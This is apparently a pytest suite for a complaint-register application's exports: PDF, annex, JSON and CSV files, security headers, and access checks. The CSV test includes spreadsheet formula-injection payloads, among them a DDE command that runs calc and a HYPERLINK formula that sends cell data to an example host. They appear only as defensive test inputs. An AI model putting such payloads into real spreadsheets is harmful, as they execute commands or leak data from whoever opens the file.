"""What leaves the register says what the register holds, in every script, and harms nobody."""

import csv
import io
import json
import re
from enum import StrEnum
from typing import Any

import jsonschema_rs
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from desk.complaint.states import Outcome, Severity, Status
from desk.exports.annex import annex_pdf
from desk.exports.case_json import CaseStanding, ComplaintExport, case_json
from desk.exports.case_pdf import case_pdf
from desk.exports.register_csv import COLUMNS, register_csv
from desk.exports.signs import printable, runs_leftward
from desk.models import AuditEntry, Complaint, EvidenceFile
from desk.storage.database import Database
from desk.tests.conftest import NOON
from desk.tests.support.complaint import complaint_to
from desk.tests.support.evidence import PNG, ask_for_link, send
from desk.tests.support.exports import STORY, a_case, text_of
from desk.tests.support.filing import file
from desk.tests.support.staffing import sign_in_as
from desk.words.spreadsheet import as_text
from firm import Firm

pytestmark = pytest.mark.usefixtures("no_mail_goes_out")

AT = "/console/complaints"


# As PDF


@pytest.mark.slow
def test_the_pdf_holds_the_complaint_the_decision_and_the_history(firm: Firm) -> None:
    case, files = a_case(firm)
    text = text_of(case_pdf(case, files, firm, NOON))
    for said in (
        firm.name,
        firm.contact.email,
        "Complaint KR-7K3M-9QXV-2F4T-8C",
        "sara@example.com",
        "No Account (taken as typed; not checked)",
        "Still pending: “no answer”",
        "<b>not bold</b> **nor this**",
        "Point 1: upheld",
        "It took nine days; two are usual.",
        "Point 2: not upheld",
        "Asked the treasury.",
        "Received → Investigating",
        "Looked at the ledger.",
        "1,234,567 bytes",
        "Skipped by the client",
    ):
        assert said in text, said


@pytest.mark.parametrize(
    "name",
    ["山田太郎", "王小明", "김민수", "Žluťoučký", "Ελένη", "Привет", "สมชาย", "नमस्ते"],
)
@pytest.mark.slow
def test_names_in_other_scripts_are_printed(firm: Firm, name: str) -> None:
    case, files = a_case(firm, name=name)
    text = text_of(case_pdf(case, files, firm, NOON))
    assert "[U+" not in text.replace("[U+1F636]", "")
    # Marks above and below may be copied after their letter, and apart from it.
    letters = [sign for sign in name if sign.isalpha()]
    assert all(letter in text for letter in letters)


@pytest.mark.parametrize("name", ["سارة", "שלום"])
@pytest.mark.slow
def test_names_from_right_to_left_are_printed_in_joined_letters(
    firm: Firm, name: str
) -> None:
    case, files = a_case(firm, name=name)
    text = text_of(case_pdf(case, files, firm, NOON))
    assert name in text or name[::-1] in text


@pytest.mark.slow
def test_signs_that_no_font_has_are_named(firm: Firm) -> None:
    assert printable("a😶b") == "a[U+1F636]b"
    assert printable("a\x07b\r\ue000") == "a[U+0007]b[U+E000]"
    assert printable("漢字 عربي עברית ✓ é e\u0301") == "漢字 عربي עברית ✓ é e\u0301"
    case, files = a_case(firm)
    assert "[U+1F636]" in text_of(case_pdf(case, files, firm, NOON))


@pytest.mark.parametrize(
    ("line", "leftward"),
    [("abc", False), ("123 שלום", True), ("مرحبا abc", True), ("A مرحبا", False), ("1", False)],
)  # fmt: skip
def test_a_line_runs_as_its_first_letter(line: str, leftward: bool) -> None:
    assert runs_leftward(line) is leftward


@pytest.mark.slow
def test_a_very_long_story_is_printed_to_its_end(firm: Firm) -> None:
    case, files = a_case(
        firm, story="word " * 3990 + "\n" * 20 + "x" * 300 + " THE-END"
    )
    text = text_of(case_pdf(case, files, firm, NOON))
    assert text.count("word ") == 3990
    assert "THE-END" in text


# As the regulation's template


@pytest.mark.slow
def test_the_template_has_its_fields_in_order_and_leaves_open_what_is_not_known(
    firm: Firm,
) -> None:
    case, files = a_case(firm)
    text = text_of(annex_pdf(case, files, firm, NOON))
    parts = [
        *("1.a.", "Registration", "Client reference", "Postcode", "Telephone", "1.b."),
        *("2.a.", "2.b.", "3.a.", "Ticket numbers: 1234567", "3.b.", "Nine days."),
        *("3.c.", "last Tuesday", "3.d.", "3.e.", "Release it", "It arrived."),
        *(
            "Documentation provided",
            "shot.png (SHA-256 abababab",
            "Place and date",
            "Signature",
        ),
    ]
    places = [text.lower().find(part.lower()) for part in parts]
    assert -1 not in places, parts[places.index(-1)]
    assert places == sorted(places)
    assert re.search(r"3\.d\. [^.]*\(where relevant\) 3\.e\.", text)
    assert "No Account" not in text


# As JSON


def test_the_json_holds_every_character_and_follows_its_schema(firm: Firm) -> None:
    case, files = a_case(firm)
    export = json.loads(case_json(case, files, firm, NOON))
    jsonschema_rs.validator_for(ComplaintExport.model_json_schema()).validate(export)
    assert export["said"]["description"] == STORY
    assert export["said"]["ticket_numbers"] == ["1234567", "=A-89"]
    assert export["standing"]["received_at"] == "2025-01-10T12:00:00Z"
    assert [point["outcome"] for point in export["decision"]] == [
        "upheld",
        "not_upheld",
    ]
    assert export["history"][0]["kind"] == "filed"
    assert export["files"][0]["name"] == "スクリーン shot.png"
    assert "stored_as" not in json.dumps(export)


# As CSV


def rows_of(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return list(csv.DictReader(text, strict=True))


def test_the_csv_is_read_back_as_it_was_written(firm: Firm) -> None:
    case, _ = a_case(firm, story='a "quoted", \r\nsecond line;')
    content = b"".join(register_csv([case.complaint]))
    (row,) = rows_of(content)
    assert tuple(row) == COLUMNS
    assert row["description"] == 'a "quoted", \r\nsecond line;'
    assert row["received_at"] == "2025-01-10T12:00:00Z"
    assert row["ticket_numbers"] == "1234567; =A-89"
    assert row["due_by"] == "2025-01-21"
    assert content.endswith(b"\r\n")


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        '=HYPERLINK("http://example.com?"&A1)',
        "\uff1d1",
        "=cmd|'/c calc'!A0",
    ],
)
def test_no_cell_is_a_formula(firm: Firm, cell: str) -> None:
    case, _ = a_case(firm, story=cell, name=cell)
    case.complaint.ticket_numbers = [cell]
    (row,) = rows_of(b"".join(register_csv([case.complaint])))
    for name in ("description", "full_name", "ticket_numbers"):
        assert row[name] == f"'{cell}"


@pytest.mark.parametrize("cell", ["a=1", "Ada", "", "1-2", "'=1", " x"])
def test_other_cells_are_left_alone(cell: str) -> None:
    assert as_text(cell) == cell


# In the console


@pytest.fixture
def id_(client: TestClient, firm: Firm, database: Database) -> int:
    filed = file(client, complaint_to(firm)).json()["reference"]
    link = ask_for_link(client, filed).json()["url"]
    assert send(client, link, ("Ä “shot”.png", PNG)).status_code == 201
    with database.reading() as session:
        found = session.scalar(select(Complaint.id).where(Complaint.reference == filed))
    assert found is not None
    return found


def audited(database: Database) -> list[tuple[str, int | None, str]]:
    with database.reading() as session:
        entries = session.scalars(select(AuditEntry).order_by(AuditEntry.id))
        return [(one.action, one.complaint_id, one.detail) for one in entries]


@pytest.mark.parametrize(
    ("path", "media_type", "name", "detail"),
    [
        ("export.pdf", "application/pdf", ".pdf", "pdf"),
        ("export.json", "application/json", ".json", "json"),
        ("annex", "application/pdf", "-annex.pdf", "annex"),
    ],
)
def test_a_complaint_is_exported_and_that_is_recorded(
    client: TestClient,
    database: Database,
    id_: int,
    path: str,
    media_type: str,
    name: str,
    detail: str,
) -> None:
    sign_in_as(client)
    answer = client.get(f"{AT}/{id_}/{path}")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == media_type
    assert re.search(
        rf'attachment; filename="KR-[^"]+{name}"', answer.headers["content-disposition"]
    )
    assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert answer.headers["cache-control"] == "no-store"
    action, complaint_id, said = audited(database)[-1]
    assert (action, complaint_id) == ("complaint_exported", id_)
    assert detail in said


def test_a_file_is_handed_out_safely_and_that_is_recorded(
    client: TestClient, database: Database, id_: int
) -> None:
    sign_in_as(client)
    with database.reading() as session:
        file_id = session.scalar(select(EvidenceFile.id))
    answer = client.get(f"{AT}/{id_}/files/{file_id}")
    assert answer.content == PNG
    headers: Any = answer.headers
    assert headers["content-type"] == "image/png"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert headers["content-disposition"] == (
        'attachment; filename="A shot.png"; '
        "filename*=UTF-8''%C3%84%20%E2%80%9Cshot%E2%80%9D.png"
    )
    assert audited(database)[-1] == ("file_downloaded", id_, f"file {file_id}")


def test_a_file_of_another_complaint_is_not_found(
    client: TestClient, firm: Firm, database: Database, id_: int
) -> None:
    file(client, complaint_to(firm))
    sign_in_as(client)
    with database.reading() as session:
        file_id = session.scalar(select(EvidenceFile.id))
    assert client.get(f"{AT}/{id_ + 1}/files/{file_id}").status_code == 404
    assert client.get(f"{AT}/{id_}/files/99999").status_code == 404


@pytest.mark.parametrize(
    "path", [f"{AT}/1/export.pdf", f"{AT}/1/export.json", f"{AT}/1/annex", f"{AT}/1/files/1"]
)  # fmt: skip
def test_nothing_is_handed_out_without_a_sign_in(client: TestClient, path: str) -> None:
    answer = client.get(path, follow_redirects=False)
    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/console/sign-in")


def test_the_register_is_for_supervisors(
    client: TestClient, database: Database, id_: int
) -> None:
    sign_in_as(client, "official")
    assert client.get("/console/register.csv").status_code == 403
    client.cookies.clear()
    sign_in_as(client, "supervisor")
    answer = client.get("/console/register.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert "register-2025-01-10.csv" in answer.headers["content-disposition"]
    assert len(rows_of(answer.content)) == 1
    assert ("register_exported", None, "open") in audited(database)


def test_the_register_is_narrowed_by_the_filters_and_read_in_batches(
    client: TestClient, firm: Firm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("desk.console.queue.rows.BATCH", 2)
    for number in range(5):
        country = "DE" if number == 2 else "IE"
        file(client, complaint_to(firm, country=country, description=f"No {number}"))
    sign_in_as(client, "supervisor")
    every = rows_of(client.get("/console/register.csv").content)
    assert [row["description"] for row in every] == [f"No {n}" for n in range(5)]
    some = rows_of(client.get("/console/register.csv?country=DE").content)
    assert [row["description"] for row in some] == ["No 2"]
    none = rows_of(client.get("/console/register.csv?view=overdue").content)
    assert none == []


@pytest.mark.parametrize(
    ("field", "words"),
    [("status", Status), ("severity", Severity), ("outcome", Outcome)],
)
def test_the_export_knows_every_stage_severity_and_outcome_and_no_other(
    field: str, words: type[StrEnum]
) -> None:
    schema = CaseStanding.model_json_schema()
    of_field = schema["properties"][field]
    [word] = [
        part["$ref"].rpartition("/")[2]
        for part in of_field.get("anyOf", [of_field])
        if "$ref" in part
    ]
    assert schema["$defs"][word]["enum"] == [one.value for one in words]


def test_the_schema_of_the_export_is_given(client: TestClient) -> None:
    sign_in_as(client)
    answer = client.get(f"{AT}/export.schema.json")
    assert answer.json() == ComplaintExport.model_json_schema()
